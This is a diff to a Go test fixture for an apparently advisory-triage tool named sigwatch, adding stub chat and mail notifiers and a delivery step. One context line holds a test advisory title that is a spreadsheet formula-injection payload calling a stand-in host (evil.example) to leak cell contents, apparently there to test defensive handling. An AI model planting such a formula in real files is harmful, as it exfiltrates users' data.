@@ -2,6 +2,7 @@ package evidence_test
 
 import (
 	"context"
+	"errors"
 	"sync"
 	"testing"
 	"time"
@@ -9,6 +10,7 @@ import (
 	"github.com/sigwatch/sigwatch/feeds"
 	"github.com/sigwatch/sigwatch/feeds/memfeed"
 	"github.com/sigwatch/sigwatch/intake"
+	"github.com/sigwatch/sigwatch/intake/notify"
 	"github.com/sigwatch/sigwatch/kpi"
 	"github.com/sigwatch/sigwatch/register"
 	"github.com/sigwatch/sigwatch/triage"
@@ -90,6 +92,8 @@ func kevAdvisory(id, vendor, product, title, ransomware string) feeds.Advisory {
 //
 //	2026-11-23 09:00  run: KEV (3 advisories) and the Fortinet PSIRT feed (1,
 //	                  an alias of a KEV CVE) → 3 cases
+//	2026-11-23 09:05  deliver: netops and collab told through chat; the
+//	                  e-mail to netops fails for good (no such mailbox)
 //	2026-11-23 10:00  manual receipt from the sector ISAC, asserted 08:30
 //	2026-11-24 09:00  CVE-2024-21762 actioned by netops (CHG-1234)
 //	2026-11-25 09:00  CVE-2024-21762 closed by akhan
@@ -124,12 +128,28 @@ func newFixture(t testing.TB) fixture {
 			kevAdvisory("CVE-2025-0001", "Example", "Widget", `=HYPERLINK("http://evil.example/?leak="&A1,"click me")`, "Unknown"),
 		),
 		memfeed.New("fortinet-psirt", vendor),
-	}, eng, &intake.Options{Register: reg, Now: clk.Now, Concurrency: 1})
+	}, eng, &intake.Options{Register: reg, Now: clk.Now, Concurrency: 1, Notify: &intake.NotifyOptions{
+		Notifiers: []notify.Notifier{
+			notify.Func("chat", func(_ context.Context, m *notify.Message) (notify.Delivery, error) {
+				return notify.Delivery{Ref: "200 OK", Status: 200}, nil
+			}),
+			notify.Func("mail", func(_ context.Context, m *notify.Message) (notify.Delivery, error) {
+				return notify.Delivery{}, &notify.Error{Notifier: "mail", Permanent: true, Status: 550, Err: errors.New("550 5.1.1 no such mailbox")}
+			}),
+		},
+		Routes:           []intake.Route{{Notifier: "chat"}, {Owner: "netops", Notifier: "mail"}},
+		DigestPriorities: []triage.Priority{},
+		Worker:           "fixture",
+	}})
 	if err != nil {
 		t.Fatal(err)
 	}
 	ctx := context.Background()
 	if _, err := p.Run(ctx); err != nil {
+		t.Fatal(err)
+	}
+	clk.Set(utc(11, 23, 9, 5))
+	if _, err := p.Deliver(ctx); err != nil {
 		t.Fatal(err)
 	}
 	clk.Set(utc(11, 23, 10, 0))
